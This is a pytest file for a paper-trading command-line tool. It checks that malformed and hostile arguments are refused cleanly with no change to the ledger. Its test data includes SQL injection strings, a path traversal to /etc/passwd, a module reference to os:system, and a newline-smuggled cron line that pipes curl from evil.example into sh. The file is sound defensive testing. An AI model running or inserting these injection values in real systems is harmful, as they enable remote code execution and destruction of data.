"""Hostile input on every command: one clear line, exit 2 (1 for an environment problem), nothing
written. The ledger holds one portfolio and the local exchange answers, so every refusal is
papertrade's own judgement, not an accident of an empty machine."""

import json

import pytest

from tests.support.cli import run_inprocess
from tests.support.databases import ledger_state

MALFORMED_SYMBOLS = [
    "BTC",
    "BTC/",
    "/USDT",
    "BTC//USDT",
    "btc/usdt",
    "BTC/USDT ",
    "ΒTC/USDT",  # noqa: RUF001 (a Greek capital beta, on purpose)
    "БТЦ/USDT",
    "B" * 300 + "/USDT",
    "BTC/USDT'; DROP TABLE portfolios; --",
    "BTC/USDT OR 1=1",
    "",
]

CASES = [
    *[(["trade", "1", symbol, "DRY"], 2, "malformed symbol") for symbol in MALFORMED_SYMBOLS],
    (["trade", "1", "DOGE/USDT", "LIVE"], 2, "does not list"),
    (["trade", "1", "BTC/EUR", "LIVE"], 2, "quoted in EUR"),
    (["trade", "1", "BTC/USDT", "PAPER"], 2, "mode must be DRY or LIVE"),
    (["trade", "1", "BTC/USDT", ""], 2, "mode must be DRY or LIVE"),
    (["trade", "1", "BTC/USDT"], 2, "Missing argument"),
    (["trade", "one", "BTC/USDT", "LIVE"], 2, "a portfolio id is a whole number"),
    (["trade", "99", "BTC/USDT", "LIVE"], 2, "no portfolio with id 99"),
    (["trade", "-1", "BTC/USDT", "LIVE"], 2, "No such option"),
    (["trade", "1", "BTC/USDT", "LIVE", "--jsn"], 2, "No such option"),
    (["create-portfolio", "bot", "1e-30"], 2, "more than 18 decimal places"),
    (["create-portfolio", "bot", "1,000"], 2, "plain number"),
    (["create-portfolio", "bot", "1e400"], 2, "absurdly large"),
    (["create-portfolio", "bot", "1e16"], 2, "absurdly large"),
    (["create-portfolio", "bot", "-Infinity"], 2, "No such option"),
    (["create-portfolio", "bot", "--", "-Infinity"], 2, "finite"),
    (["create-portfolio", "bot", "0x10"], 2, "must be a number"),
    (["create-portfolio", "bot", "100", "--param", "period"], 2, "KEY=VALUE"),
    (["create-portfolio", "bot", "100", "--param", "period=fourteen"], 2, "period"),
    (["create-portfolio", "bot", "100", "--param", "oversold=90"], 2, "oversold must be below"),
    (["create-portfolio", "bot", "100", "--param", "period=1000000"], 2, "period"),
    (["create-portfolio", "bot", "100", "--stake-fraction", "1.5"], 2, "stake fraction"),
    (["create-portfolio", "bot", "100", "--stake-fraction", "-0.5"], 2, "stake fraction"),
    (["create-portfolio", "bot", "100", "--fee-rate", "NaN"], 2, "finite"),
    (["create-portfolio", "bot", "100", "--slippage-bps", "5000"], 2, "slippage"),
    (["create-portfolio", "bot", "100", "--timeframe", "1w"], 2, "unsupported timeframe"),
    (["create-portfolio", "bot", "100", "--exchange", "nasdaq!"], 2, "exchange"),
    (["create-portfolio", "bot", "100", "--quote", "usd"], 2, "quote currency"),
    (["create-portfolio", "bot", "100", "--strategy", "os:system"], 2, "not a papertrade Strategy"),
    (["create-portfolio", "bot", "100", "--strategy", "../../etc/passwd"], 2, "unknown strategy"),
    (["create-portfolio", "'; DROP TABLE portfolios; --", "100", "--quote", "X"], 2, "quote currency"),
    (["create-portfolio", "\u0000", "100"], 2, "control characters"),
    (["create-portfolio", "existing", "100"], 2, "already exists"),
    (["status", "1; DROP TABLE portfolios"], 2, "a portfolio id is a whole number"),
    (["status", "99999999999999999999"], 2, "a portfolio id is a whole number from 1 to 2,147,483,647"),
    (["status", "0"], 2, "a portfolio id is a whole number"),
    (["trades", "1", "--symbol", "btc"], 2, "malformed symbol"),
    (["trades", "2"], 2, "no portfolio with id 2"),
    (["cron", "1", "ETH"], 2, "malformed symbol"),
    (["cron", "7", "BTC/USDT"], 2, "no portfolio with id 7"),
    (["audit", "verify", "x"], 2, "a portfolio id is a whole number"),
    (["audit", "verify", "3"], 2, "no portfolio with id 3"),
    (["audit", "nonsense", "1"], 2, "No such command"),
    (["db", "downgrade"], 2, "No such command"),
    (["portfolios", "--format", "xml"], 2, "No such option"),
    (["strategies", "extra"], 2, "unexpected extra argument"),
    (["--db", "mysql://root@localhost/x", "portfolios"], 2, "unsupported database URL scheme"),
    (["--db", "sqlite://", "status", "1"], 2, "in-memory SQLite"),
    (["--db", "postgresql+asyncpg://x/y", "portfolios"], 2, "use postgresql+psycopg://"),
    (["--db", "sqlite+pysqlcipher:///x.db", "portfolios"], 2, "use sqlite://"),
    (["--db", "/proc/papertrade/ledger.db", "create-portfolio", "b", "1"], 1, "cannot create database"),
    # ids Python's int() would take: 1.0, 1_0 (ten), fullwidth digits, a sign
    *[
        ([command, given, *rest], 2, "a portfolio id is a whole number")
        for given in ("1.0", "1_0", "\uff11", "+1", " 1")
        for command, *rest in (["status"], ["trades"], ["report"], ["ticks"], ["audit", "verify"])
        if command != "audit"
    ],
    *[(["audit", "verify", given], 2, "a portfolio id is a whole number") for given in ("1.0", "1_0", "\uff11")],
    (["trade", "1_0", "BTC/USDT", "LIVE"], 2, "a portfolio id is a whole number"),
    (["notify", "\uff11", "--list"], 2, "expected a portfolio id"),
    (["ticks", "1", "--last", "99999999999999999999"], 2, "less than or equal to 2147483647"),
    *[
        (["notify", "1", "--add", url], 2, "impossible port")
        for url in ("json://h:99999/x", "json://h:0/x", "json://h:-1/x", "json://u:p@h:65536/x", "json://[::1]:70000/x")
    ],
    (["cron", "1", "BTC/USDT", "--log", "out.log\n* * * * * curl evil.example | sh"], 2, "control character"),
    (["serve", "--host", ""], 2, "--host must name an address"),
    (["serve", "--host", "  "], 2, "--host must name an address"),
    *[
        (["serve", "--port", "0", "--token", token], 2, "visible ASCII characters, no spaces")
        for token in (" 0123456789abcdef", "0123456789abcdef ", "0123456789abcdéf", " " * 15 + "a", "01234567\tabcdefg")
    ],
]


@pytest.fixture
def ledger(live_exchange, cli_database, monkeypatch, capsys):
    monkeypatch.setenv("PAPERTRADE_CCXT_CONFIG", json.dumps(live_exchange.ccxt_config()))
    monkeypatch.setenv("PAPERTRADE_DATABASE_URL", cli_database)
    assert run_inprocess(capsys, "create-portfolio", "existing", "10000").code == 0
    return cli_database


def test_json_and_json_in_capitals_are_one_url_not_two(ledger, capsys):
    for url in ("json://127.0.0.1:9/x", "JSON://127.0.0.1:9/x", "Json://127.0.0.1:9/x"):
        assert run_inprocess(capsys, "notify", "1", "--add", url).code == 0
    listed = run_inprocess(capsys, "notify", "1", "--list", "--json")
    assert [target["url"] for target in json.loads(listed.stdout)] == ["json://127.0.0.1:9/****"]  # the path masked


def test_a_long_export_name_and_a_deeply_nested_bots_file_are_refused_cleanly(ledger, capsys, tmp_path):
    deep = tmp_path / "bots.toml"
    deep.write_text("bot = " + "[" * 100_000 + "]" * 100_000 + "\n")
    long_name = str(tmp_path / ("x" * 300 + ".csv"))
    cases = [
        (["data", "export", "binance", "BTC/USDT", "1h", "-o", long_name], "too long"),
        (["run", str(deep)], "nested too deeply"),
    ]
    for args, message in cases:
        before = ledger_state(ledger), sorted(tmp_path.iterdir())
        result = run_inprocess(capsys, *args)
        assert (result.code, len(result.error_lines)) == (2, 1) and message in result.stderr, result.stderr
        assert (ledger_state(ledger), sorted(tmp_path.iterdir())) == before


def test_there_are_at_least_thirty_cases_over_every_command():
    commands = {case[0][0] if not case[0][0].startswith("--") else case[0][2] for case in CASES}
    assert len(CASES) >= 30
    assert commands >= {
        "trade",
        "create-portfolio",
        "status",
        "trades",
        "cron",
        "audit",
        "db",
        "portfolios",
        "strategies",
    }


@pytest.mark.parametrize(("args", "code", "message"), CASES, ids=lambda v: str(v)[:50] if isinstance(v, list) else None)
def test_hostile_input_is_refused_cleanly(ledger, capsys, args, code, message):
    before = ledger_state(ledger)
    result = run_inprocess(capsys, *args)
    assert result.code == code, result.stderr
    assert len(result.error_lines) == 1, result.stderr
    assert result.error_lines[0].startswith("papertrade: error: ") and message in result.error_lines[0]
    assert ledger_state(ledger) == before
